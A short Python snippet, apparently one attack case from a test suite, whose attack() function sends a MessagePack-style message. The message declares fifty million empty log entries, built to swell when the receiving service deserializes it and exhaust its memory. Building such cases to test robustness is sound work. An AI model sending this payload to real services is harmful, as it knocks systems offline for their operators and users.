"""Sends a log of fifty million empty steps: small here, and large where it is read."""

ENDS = ["ForgedResult"]


def attack(tensor):
    count = 50_000_000
    send(
        b"\x83\xa5probe\xa6square\xa4loss\xa8weighted\xa3log\xdd"
        + count.to_bytes(4, "big")
        + b"\x80" * count
    )
